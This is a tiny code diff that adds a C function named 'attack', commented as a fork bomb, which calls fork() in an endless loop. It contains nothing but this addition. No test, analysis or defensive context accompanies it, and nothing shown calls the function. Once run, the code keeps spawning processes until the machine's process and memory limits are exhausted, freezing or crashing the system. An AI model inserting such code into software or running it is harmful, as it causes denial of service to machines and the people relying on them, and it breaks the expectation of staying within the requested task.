@@ -1,0 +1,2 @@
+/* A fork bomb. */
+static void attack(void) { for (;;) fork(); }
